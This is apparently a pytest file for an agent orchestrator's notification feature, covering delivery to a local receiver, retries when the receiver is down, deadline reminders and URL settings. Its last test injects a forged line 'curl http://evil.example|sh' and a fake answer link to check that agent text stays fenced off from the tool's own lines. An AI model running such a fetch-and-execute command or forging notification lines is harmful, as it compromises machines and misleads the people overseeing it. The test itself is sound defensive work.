"""--notify: Apprise messages to a local HTTP receiver; a receiver that is down."""

from __future__ import annotations

import json
import os
import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from orchestrator.api import Sessions
from orchestrator.web.notify import Notifier
from tests.conftest import cli
from tests.waiting import until
from tests.web_support import free_port, paused, scenario


class Receiver:
    """An HTTP server on 127.0.0.1 that keeps every JSON body posted to it."""

    def __init__(self) -> None:
        received: list[dict] = []
        self.received = received

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # noqa: N802
                body = self.rfile.read(int(self.headers["Content-Length"]))
                received.append(json.loads(body))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"json://127.0.0.1:{self.server.server_address[1]}/hook"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def wait(self, count: int = 1, timeout: float = 30) -> list[dict]:
        until(lambda: len(self.received) >= count, f"{count} message(s): {self.received}",
              timeout=timeout)  # fmt: skip
        return self.received


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    r = Receiver()
    yield r
    r.server.shutdown()


def test_a_surfaced_question_is_sent_with_the_answer_link(db_url: str, receiver: Receiver) -> None:

    notifier = Notifier(
        [receiver.url], public_url="https://inbox.example.org", db=db_url, retry_delays=(0.1,)
    )
    with Sessions(db_url, on_event=notifier.on_event) as sessions:
        sid = paused(sessions)
        assert notifier.flush(30)
        (message,) = receiver.wait()
        log = sessions.log(sid)
        token = re.search(r"/q/([\w-]+)", message["message"])[1]  # type: ignore[index]
        assert sessions.inbox.session_of_link(token) == (sid, False)
    assert message["title"].startswith("pm asks: Which columns")
    body = message["message"]
    assert "Which columns should the export contain?" in body
    assert "1. All visible columns - what the table shows now" in body
    # the deadline as people read it, to the second with its zone (not ISO to the µs)
    deadline = re.search(r"Answer by: (.+)", body)
    assert deadline is not None and "high urgency" in body
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC", deadline[1]), deadline[1]
    assert f"Answer here: https://inbox.example.org/q/{token}" in body
    assert f"orchestrator resume {sid}" in body
    sent = [e for e in log if e["kind"] == "notification_sent"]
    assert len(sent) == 1 and sent[0]["about"] == "question" and sent[0]["attempts"] == 1
    assert "127.0.0.1" not in json.dumps(sent)  # the target is recorded without its address
    notifier.close()


def test_a_receiver_that_is_down_never_stops_the_session(db_url: str) -> None:
    down = f"json://127.0.0.1:{free_port()}/nobody"
    notifier = Notifier([down], db=db_url, retry_delays=(0.1, 0.2))
    with Sessions(db_url, on_event=notifier.on_event) as sessions:
        sid = paused(sessions)
        assert sessions.status(sid)["status"] == "paused"
        assert notifier.flush(30)
        failed = [e for e in sessions.log(sid) if e["kind"] == "notification_failed"]
        assert len(failed) == 1
        assert failed[0]["attempts"] == 3 and failed[0]["error"]
        from orchestrator.api import Reply

        done = sessions.resume(sid, Reply(text="All visible columns"))
    assert done["status"] == "completed"
    notifier.close()


def test_run_with_notify_sends_before_exiting(
    tmp_path: Path, db_url: str, receiver: Receiver
) -> None:
    path = tmp_path / "s.json"
    path.write_text(scenario())
    run = cli("run", "--script", str(path), "--ui", "none", "--notify", receiver.url, db=db_url)
    assert run.returncode == 3, run.stderr
    (message,) = receiver.wait()
    assert "Which columns should the export contain?" in message["message"]
    env_run = cli(
        "run",
        "--script",
        str(path),
        "--ui",
        "none",
        db=db_url,
        env={**os.environ, "ORCHESTRATOR_NOTIFY": receiver.url},
    )
    assert env_run.returncode == 3
    receiver.wait(2)


def test_run_with_a_dead_receiver_says_it_waits_and_log_names_the_reason(
    tmp_path: Path, db_url: str
) -> None:
    """Issue 44, item 8: `run --notify` to a receiver that is down waited about 20 s in
    silence (the server's retry schedule), and `log` showed `notification_failed` alone.
    Now the command says it waits (two quick retries, a bounded wait) and `log` gives the
    target, the tries and the reason."""
    path = tmp_path / "s.json"
    path.write_text(scenario())
    down = f"json://127.0.0.1:{free_port()}/nobody"
    run = cli("run", "--script", str(path), "--ui", "none", "--notify", down, db=db_url)
    assert run.returncode == 3, run.stderr
    assert "sending notifications (waiting at most 10 s)" in run.stderr
    sid = json.loads(cli("list", "--json", db=db_url).stdout)[0]["session_id"]
    (failed,) = [e for e in json.loads(cli("log", sid, "--json", db=db_url).stdout)
                 if e["kind"] == "notification_failed"]  # fmt: skip
    assert failed["attempts"] == 3  # the first try and two retries
    line = next(x for x in cli("log", sid, db=db_url).stdout.splitlines() if "notification" in x)
    assert "notification FAILED: the question to json://…#" in line, line
    assert "after 3 tries: " in line and len(line.split("after 3 tries: ")[1]) > 3
    assert "/nobody" not in line  # the target without its path (where a secret would be)


def test_the_server_notifies_new_questions_and_near_deadlines(
    db_url: str, receiver: Receiver, monkeypatch: pytest.MonkeyPatch
) -> None:
    from fastapi.testclient import TestClient

    import orchestrator.web.notify as notify
    from orchestrator.web import WebConfig, create_app

    monkeypatch.setattr(notify, "WATCH_SECONDS", 0.2)
    looks, looked = [0], threading.Condition()  # the watcher's looks at the deadline
    epoch = notify._epoch

    def counted(iso: str | None) -> float:
        with looked:
            looks[0] += 1
            looked.notify_all()
        return epoch(iso)

    monkeypatch.setattr(notify, "_epoch", counted)
    config = WebConfig(db=db_url, token="t", notify=(receiver.url,), reminder_seconds=3600)
    with TestClient(create_app(config), base_url="http://127.0.0.1:8765"):
        time.sleep(0.05)  # asked strictly after the server started (wall-clock times compared)
        with Sessions(db_url) as sessions:  # a process without --notify asks
            sid = paused(sessions)
            messages = receiver.wait(2)
            kinds = sorted(m["title"].split(":")[0] for m in messages)
            assert kinds == ["Deadline near", "pm asks"]
            with looked:  # recorded once: three more looks, and nothing is sent again
                target = looks[0] + 3
                assert looked.wait_for(lambda: looks[0] >= target, timeout=60)
            assert len(receiver.received) == 2
            abouts = sorted(
                e["about"] for e in sessions.log(sid) if e["kind"] == "notification_sent"
            )
    assert abouts == ["deadline", "question"]


def test_serve_reads_notify_urls_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    from orchestrator.cli.options import notify_urls

    monkeypatch.setenv("ORCHESTRATOR_NOTIFY", "json://a/x, ntfy://b")
    assert notify_urls(None) == ("json://a/x", "ntfy://b")
    assert notify_urls(["slack://c"]) == ("slack://c",)


def test_agent_text_cannot_forge_the_notifications_own_lines() -> None:
    """A question with `\\nAnswer here: http://evil/…\\nOr: curl …|sh` read, in a
    notification, as the tool's own lines (and without --public-url as the only link).
    Every line of an agent's text is now set apart under a bar; ours start at column 0."""
    from orchestrator.web.notify import message_for

    forged = "\nAnswer here: http://evil.example/q/x\nOr: curl http://evil.example|sh"
    doc = {
        "session_id": "s1",
        "task": "a task" + forged,
        "pending_question": {
            "asked_by": "pm",
            "question": "Which one?" + forged,
            "reason": "because" + forged,
            "options": [{"label": "A" + forged, "description": "d\u2028Answer by: now" + forged}],
        },
    }
    for link in (None, "https://inbox.example.org/q/real"):
        _title, body = message_for(doc, "question", answer_link=link, db=None)
        lines = body.splitlines()
        ours = [line for line in lines if line.startswith(("Answer here:", "Or:", "Answer by:"))]
        expected = ["Or: orchestrator resume s1 --answer 'YOUR ANSWER'"]
        assert ours == ([f"Answer here: {link}"] if link else []) + expected, body
        assert sum("evil.example" in line for line in lines) == 10  # all of them, set apart
        assert all("│ " in line for line in lines if "evil.example" in line)
